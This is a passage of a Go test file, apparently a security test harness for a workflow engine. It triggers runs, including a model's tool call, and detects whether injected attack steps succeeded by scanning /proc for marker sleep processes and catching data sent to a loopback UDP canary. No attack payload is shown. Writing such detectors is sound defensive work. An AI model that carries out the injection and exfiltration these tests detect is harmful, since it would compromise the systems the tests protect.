					t.Fatal(err)
				}
			}
		}
		for _, a := range loaded {
			var runs []*engine.Run
			waitFor(t, "the runs of "+a.id+" to end", func() bool {
				if b.d.exited() {
					return true // judged below: hookd died
				}
				runs = b.e.listRuns(a.id)
				a.runID = ""
				for _, r := range runs {
					switch r.Status {
					case engine.StatusRunning, engine.StatusQueued:
						return false
					case engine.StatusCompleted, engine.StatusFailed:
						a.runID = r.ID
					}
				}
				return a.runID != ""
			}, func() string { return fmt.Sprintf("runs %+v; log:\n%s", runs, b.d.log) })
			if len(runs) != 1 && !b.d.exited() {
				t.Errorf("%s: the watch fired %d runs, want one", a.id, len(runs))
			}
		}
	case "fire", "model":
		var wg sync.WaitGroup
		for _, a := range loaded {
			wg.Add(1)
			go func() {
				defer wg.Done()
				args := []string{"fire", a.id, "--wait"}
				if b.trigger == "fire" {
					j, _ := json.Marshal(map[string]string{a.id: a.data})
					args = append(args, "--event", string(j))
				}
				r, err := b.e.exec(args...)
				if err != nil {
					t.Errorf("%s: %v", a.id, err)
					return
				}
				id := strings.TrimSpace(strings.SplitN(r.stdout, "\n", 2)[0])
				if len(id) < 10 || strings.ContainsAny(id, " \t") {
					t.Errorf("%s: no run id:\n%s", a.id, r)
					return
				}
				a.runID = id
			}()
		}
		wg.Wait()
	}
	// The records, a few at once.
	var wg sync.WaitGroup
	sem := make(chan struct{}, 8)
	for _, a := range loaded {
		if a.runID == "" {
			t.Errorf("%s: no run", a.id)
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			r, err := b.e.exec("run", a.runID, "--json")
			if err != nil || r.code != 0 {
				t.Errorf("%s: %v\n%s", a.id, err, r)
				return
			}
			a.record = r.stdout
			var run engine.Run
			if err := json.Unmarshal([]byte(r.stdout), &run); err != nil {
				t.Errorf("decode run %s: %v", a.runID, err)
				return
			}
			if run.Status != engine.StatusCompleted {
				t.Errorf("%s: run %s %s: %s", a.id, run.ID, run.Status, run.Error)
			}
		}()
	}
	wg.Wait()
}

// sleeping maps the number of seconds of each sleep to the live
// processes whose command line holds it as a word, or as a word's
// leading number (a sleep's seconds no other process uses): the sleep
// itself, and the shells and setsid on the way to it, caught before
// they exec. It comes from one scan of /proc, which serves every attack
// judged at that moment (each reading all of /proc for its own number
// took ~45% of the test process's CPU).
type sleeping map[int][]int

// scanSleeping scans /proc: each process's command line, and its stat
// for those that hold a number (a zombie is not alive). Its reads are
// plain system calls on one buffer: os.ReadFile's open registers the
// file with the poller and stats it first.
func scanSleeping() sleeping {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	names, _ := d.Readdirnames(-1)
	d.Close()
	found := sleeping{}
	buf := make([]byte, 0, 4096)
	for _, name := range names {
		pid, err := strconv.Atoi(name)
		if err != nil || pid == os.Getpid() {
			continue
		}
		if buf, err = readProc("/proc/"+name+"/cmdline", buf[:0]); err != nil {
			continue
		}
		var nums []int
		for _, w := range bytes.FieldsFunc(buf, func(r rune) bool { return r == 0 || r == ' ' }) {
			i := 0
			for i < len(w) && w[i] >= '0' && w[i] <= '9' {
				i++
			}
			if n, err := strconv.Atoi(string(w[:i])); err == nil && !slices.Contains(nums, n) {
				nums = append(nums, n)
			}
		}
		if len(nums) == 0 {
			continue
		}
		if buf, err = readProc("/proc/"+name+"/stat", buf[:0]); err != nil {
			continue
		}
		if i := bytes.LastIndexByte(buf, ')'); i > 0 && i+2 < len(buf) && buf[i+2] == 'Z' {
			continue // exited, not yet reaped
		}
		for _, n := range nums {
			found[n] = append(found[n], pid)
		}
	}
	return found
}

// readProc appends the file's content to buf.
func readProc(path string, buf []byte) ([]byte, error) {
	fd, err := syscall.Open(path, syscall.O_RDONLY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return buf, err
	}
	defer syscall.Close(fd)
	for {
		if len(buf) == cap(buf) {
			buf = append(buf, 0)[:len(buf)]
		}
		n, err := syscall.Read(fd, buf[len(buf):cap(buf)])
		if err == syscall.EINTR {
			continue
		}
		if err != nil {
			return buf, err
		}
		if n == 0 {
			return buf, nil
		}
		buf = buf[:len(buf)+n]
	}
}

// sleepScans shares scans of /proc between the attacks that ask at
// once (the live runs, a few at a time in each of the four batteries):
// each gets a scan begun after it asked, so it sees what its attack
// left, and those that ask while a scan runs share the next one.
var sleepScans struct {
	mu      sync.Mutex
	next    *sleepScan // the scan the callers asking now get; it starts when the one running ends
	running sync.Mutex // held while a scan runs
}

type sleepScan struct {
	done  chan struct{}
	found sleeping
}

// sleepersNow is a scan of /proc begun after the call.
func sleepersNow() sleeping {
	sleepScans.mu.Lock()
	s := sleepScans.next
	if s != nil {
		sleepScans.mu.Unlock()
		<-s.done
		return s.found
	}
	s = &sleepScan{done: make(chan struct{})}
	sleepScans.next = s
	sleepScans.mu.Unlock()
	sleepScans.running.Lock()
	sleepScans.mu.Lock()
	sleepScans.next = nil // who asks from now on may ask after this scan read their process
	sleepScans.mu.Unlock()
	s.found = scanSleeping()
	sleepScans.running.Unlock()
	close(s.done)
	return s.found
}

// udpCanary records the datagrams sent to a loopback UDP port.
type udpCanary struct {
	conn  net.PacketConn
	mu    sync.Mutex
	lines []string
	done  chan struct{}
}

func newUDPCanary(t *testing.T) *udpCanary {
	conn, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	c := &udpCanary{conn: conn, done: make(chan struct{})}
	go func() {
		defer close(c.done)
		buf := make([]byte, 2048)
		for {
			n, _, err := conn.ReadFrom(buf)
			if err != nil {
				return
			}
			c.mu.Lock()
			c.lines = append(c.lines, strings.TrimSpace(string(buf[:n])))
			c.mu.Unlock()
		}
	}()
	t.Cleanup(func() { conn.Close(); <-c.done })
	return c
}

func (c *udpCanary) port() int { return c.conn.LocalAddr().(*net.UDPAddr).Port }

// seen returns the datagrams received so far: it sends one itself and
// waits for it, which comes after those sent before on the loopback.
func (c *udpCanary) seen(t *testing.T) []string {
	conn, err := net.Dial("udp4", c.conn.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write([]byte("END")); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the UDP canary's own datagram", func() bool {
		c.mu.Lock()
		defer c.mu.Unlock()
		return len(c.lines) > 0 && c.lines[len(c.lines)-1] == "END"
	}, nil)
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.lines[:len(c.lines)-1]...)
}

func (c *udpCanary) reset() {
	c.mu.Lock()
	c.lines = nil
	c.mu.Unlock()
}

func (c *canary) reset() {
	c.mu.Lock()
	c.lines = nil
	c.mu.Unlock()
}

// stepOutput is what the run's attack step, or the model's tool call,
// printed, from its record.
func stepOutput(record string) string {
	var run engine.Run
	if err := json.Unmarshal([]byte(record), &run); err != nil {
		return record
	}
	for _, s := range run.Steps {
		if s.Name == "attack" {
			return fmt.Sprintf("exit %v, stderr %q, error %q", deref(s.ExitCode), s.Fields["stderr"], s.Error)
		}
	}
	return string(run.ToolCalls)
}

func deref(p *int) any {
	if p == nil {
		return nil
	}
	return *p
}
